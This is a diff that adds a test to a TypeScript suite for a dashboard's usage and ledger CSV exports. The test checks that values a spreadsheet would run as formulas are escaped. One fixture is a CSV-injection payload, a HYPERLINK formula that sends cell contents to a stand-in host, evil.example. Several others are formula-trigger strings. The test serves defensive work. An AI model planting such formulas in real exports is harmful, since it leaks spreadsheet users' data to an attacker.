@@ -13,6 +13,8 @@ import {
   type UsageReport,
 } from "../../src/usecases/dashboard/usageReport.js";
 import { usageCsv, usagePage } from "../../src/http/dashboard/usagePage.js";
+import { ledgerCsv } from "../../src/usecases/operator/ledgerCsv.js";
+import { parse } from "csv-parse/sync";
 import type { Viewer } from "../../src/http/dashboard/layout.js";
 import { project } from "../../projections/project.js";
 import { memoryReader, memoryTables, putRow } from "../../projections/memoryTables.js";
@@ -223,5 +225,27 @@ describe("the usage page and CSV", () => {
       '2026-11-29,key_a,"Lab ""<b>notebook</b>"", 2026 (sk_live_abcd…)",scifact,0,2,40,0.400000',
       "",
     ]);
+  });
+
+  it("exports a key name or a credit's reference a spreadsheet would run as a formula as text", () => {
+    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
+    const named = { ...report(), keys: new Map([["key_a", { prefix: "sk_live_abcd", name: formula }]]) };
+    const usage = parse(usageCsv(named), { columns: true }) as Record<string, string>[];
+    expect(usage[0]!.key).toBe(`'${formula} (sk_live_abcd…)`);
+    const entry = { time: "2026-11-29T10:00:00.000Z", type: "credit", keyId: null, queryId: null };
+    const ledger = parse(
+      ledgerCsv(
+        ["=1+1", "+1", "-2", "@SUM(A1)", "\tx", "grant 2026", null].map((reference) => ({
+          ...entry,
+          amount: "-0.010000",
+          balanceAfter: "-0.020000",
+          reference,
+        })),
+      ),
+      { columns: true },
+    ) as Record<string, string>[];
+    expect(ledger.map((r) => r.reference)).toEqual(["'=1+1", "'+1", "'-2", "'@SUM(A1)", "'\tx", "grant 2026", ""]);
+    // amounts stay numbers
+    expect(ledger.every((r) => r.amount === "-0.010000" && r.balance_after === "-0.020000")).toBe(true);
   });
 });
